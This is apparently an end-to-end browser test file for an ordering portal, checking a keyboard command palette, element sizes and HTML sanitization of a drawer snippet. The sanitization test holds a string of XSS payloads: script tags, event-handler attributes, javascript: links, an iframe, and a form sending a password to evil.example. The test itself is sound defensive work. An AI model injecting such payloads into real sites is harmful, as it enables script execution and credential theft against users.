import type { Page } from 'playwright-core';
import { describe, it } from 'vitest';
import { expect } from '../harness/expect.ts';
import { beyond } from '../harness/axe.ts';
import { pathOf, usePortal } from '../harness/use-portal.ts';
import { withOptions } from '../harness/content.ts';
import { ready } from '../harness/ready.ts';

const { visit } = usePortal();

const palette = (page: Page) => page.getByRole('dialog', { name: 'Go to' });
const home = async (page: Page): Promise<void> => {
  await page.getByRole('heading', { level: 1 }).waitFor();
  await ready(page);
};

async function openPalette(page: Page, window: 'desk' | 'phone' = 'desk'): Promise<void> {
  await home(page);
  if (window === 'desk') {
    await page.keyboard.press('Control+k');
  } else {
    await page.getByRole('button', { name: 'Menu', exact: true }).click();
    await page.getByRole('button', { name: 'Go to…' }).click();
  }
  await page.waitForFunction(() => document.activeElement?.getAttribute('role') === 'combobox');
}

describe('going anywhere', () => {
  it('opens an order by its number with the keyboard alone', async () => {
    const { page } = await visit({ as: 'buyer' });
    await openPalette(page);
    await page.keyboard.type('500001');
    await palette(page)
      .getByRole('option', { name: /Order 500001/ })
      .waitFor();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Order 500001' }).waitFor();
    await expect.poll(() => pathOf(page)).toBe('/account/orders/500001');
    await palette(page).waitFor({ state: 'detached' });
    await page.waitForFunction(() => document.activeElement?.id === 'page');
  });
});

describe('sizes of the specification', () => {
  it.each([['desk'], ['tablet']] as const)('S-065 the search field is 250 to 300 px wide (%s)', async (window) => {
    const { page } = await visit({ as: 'buyer', window });
    await home(page);
    const { width } = (await page.getByRole('search', { name: 'Search items' }).boundingBox())!;
    expect(width).toBeGreaterThanOrEqual(250);
    expect(width).toBeLessThanOrEqual(300);
  });

  it('S-396 dialogs are at most 500 or 600 px wide', async () => {
    const { page } = await visit({ as: 'buyer' });
    await home(page);
    const widthOf = async (name: RegExp): Promise<number> => {
      const dialog = page.getByRole('dialog', { name });
      await dialog.waitFor();
      const { width } = (await dialog.boundingBox())!;
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
      return width;
    };
    await page
      .getByRole('banner')
      .getByRole('button', { name: /Change customer/ })
      .click();
    const customers = await widthOf(/Change Customers/);
    await page
      .getByRole('banner')
      .getByRole('button', { name: /Delivering To|Pickup Location/ })
      .click();
    const delivery = await widthOf(/Change Delivery Method/);
    await page.getByRole('banner').getByRole('button', { name: /^Cart/ }).click();
    await page.getByRole('dialog', { name: 'Cart' }).getByRole('button', { name: /Edit/ }).first().click();
    await page.getByRole('button', { name: 'Update', exact: true }).waitFor();
    const line = (await page
      .getByRole('dialog')
      .filter({ has: page.getByRole('button', { name: 'Update', exact: true }) })
      .last()
      .boundingBox())!.width;
    for (const width of [customers, delivery, line]) expect([500, 600]).toContain(width);
  });

  it('S-046 the table of customers is at most 600 px high, in a window of any height, with 400 of them too', async () => {
    const { page } = await visit({ as: 'multi' });
    await page.setViewportSize({ width: 1440, height: 2000 });
    await home(page);
    await page
      .getByRole('banner')
      .getByRole('button', { name: /Change customer/ })
      .click();
    const table = page.getByRole('group', { name: 'Your customers' });
    await table.getByRole('radio').nth(100).waitFor();
    const height = async () => (await table.boundingBox())!.height;
    await expect.poll(() => height()).toBe(600);
    await page.setViewportSize({ width: 390, height: 844 });
    await expect.poll(() => height()).toBeLessThanOrEqual(600);
    await expect.poll(() => beyond(page)).toBe(0);
  });

  it('S-461 S-460 a phone has the search, and a way back on every page but home', async () => {
    const { page } = await visit({ as: 'buyer', window: 'phone' });
    await home(page);
    await expect(page.getByRole('button', { name: 'Back' })).toHaveCount(0);
    const search = page.getByRole('combobox', { name: 'Search items' });
    await search.fill('walnut');
    await search.press('Enter');
    await page.waitForFunction(() => location.hash.startsWith('#/items'));
    await expect.poll(() => pathOf(page)).toContain('search=walnut');
    await page.getByRole('button', { name: 'Back' }).click();
    await page.waitForFunction(() => location.hash === '#/');
  });
});

describe('what the content writes', () => {
  const hostile = `<p>Open <b>until noon</b></p><script>window.hacked=1</script><img src="x" onerror="window.hacked=2" alt="">
    <style>body{display:none}</style><form action="https://evil.example"><input name="password"><button>Send</button></form>
    <a href="javascript:window.hacked=3">bad link</a><a href="/#/items">good link</a><iframe src="javascript:parent.hacked=4"></iframe>
    <svg onload="window.hacked=5"><script>window.hacked=6</script></svg><p style="position:fixed;inset:0" id="page" onclick="window.hacked=7">covers</p>`;

  it('S-360 S-391 the html_snippet of the drawer runs nothing, asks for nothing and styles nothing', async () => {
    const { page } = await visit({ as: 'buyer' });
    await withOptions(page, { drawer: { html_snippet: hostile }, appbar: { Layout: 'Legacy' } });
    await home(page);
    // The layout style Legacy has the drawer at every width.
    await page.getByRole('button', { name: 'Open the menu' }).click();
    const drawer = page.getByRole('dialog', { name: 'Menu' });
    const snippet = drawer.locator('div:has(> p > b)', { hasText: 'until noon' }).last();
    await snippet.waitFor();
    await drawer.getByText('covers').click();
    await drawer.getByText('bad link').click();
    const found = await snippet.evaluate((element) => ({
      tags: [...new Set([...element.querySelectorAll('*')].map(({ tagName }) => tagName.toLowerCase()))].sort(),
      links: [...element.querySelectorAll('a')].map((link) => link.getAttribute('href')),
      attributes: [...element.querySelectorAll('*')]
        .flatMap((one) => one.getAttributeNames())
        .filter((name) => name.startsWith('on') || name === 'style' || name === 'id'),
      shown: getComputedStyle(document.body).display,
      hacked: (window as unknown as { hacked?: number }).hacked,
    }));
    expect(found).toEqual({
      tags: ['a', 'b', 'img', 'p'],
      links: [null, '/#/items'],
      attributes: [],
      shown: 'block',
      hacked: undefined,
    });
  });
});
